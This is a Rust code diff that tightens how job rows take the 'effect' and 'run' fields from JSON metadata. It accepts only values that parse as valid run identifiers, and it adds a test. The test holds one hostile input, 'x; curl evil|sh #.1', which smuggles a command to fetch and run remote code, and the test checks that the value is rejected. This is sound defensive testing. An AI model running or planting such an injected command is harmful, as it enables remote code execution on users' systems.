@@ -13,7 +13,7 @@ use super::way::Way;
 use super::{Binding, Call, Change, Look, Receipt, World};
 use crate::error::{Error, Kind, Result};
 use crate::gate::verb::{Class, Verb};
-use crate::gate::{Did, Lives, Pass};
+use crate::gate::{Did, Lives, Pass, clock};
 use rhai::Dynamic;
 use serde::Deserialize;
 use serde_json::{Value, json};
@@ -114,9 +114,10 @@ pub fn container_row(container: &Container) -> Value {
 /// `about` was written by whoever began it: what is no JSON object of ours says nothing.
 fn row(id: &str, state: &str, exit: Value, about: &str, container: bool) -> Value {
     let about: Value = serde_json::from_str(about).unwrap_or_default();
-    let run = about["effect"].as_str().and_then(|effect| effect.split('.').next());
+    let effect = about["effect"].as_str().filter(|effect| clock::run_of_effect(effect).is_some());
     json!({
-        "id": id, "state": state, "exit": exit, "container": container, "effect": about["effect"], "run": run,
+        "id": id, "state": state, "exit": exit, "container": container, "effect": effect,
+        "run": effect.and_then(clock::run_of_effect),
         "by": about["by"],
         "verb": about["verb"], "target": about["target"], "says": about["says"], "at": about["at"],
     })
@@ -258,5 +259,11 @@ mod tests {
         assert_eq!((work["by"].clone(), work["state"].clone()), (Value::Null, json!("running")));
         let work = row("x", "done", json!(0), r#"{"by":"alice","verb":"host.run"}"#, true);
         assert_eq!((work["by"].clone(), work["container"].clone()), (json!("alice"), json!(true)));
+        for (effect, run) in
+            [("20261124-061743-k3f9.1", json!("20261124-061743-k3f9")), ("x; curl evil|sh #.1", Value::Null)]
+        {
+            let work = row("x", "done", json!(0), &json!({ "effect": effect }).to_string(), true);
+            assert_eq!(work["run"], run, "{effect}");
+        }
     }
 }
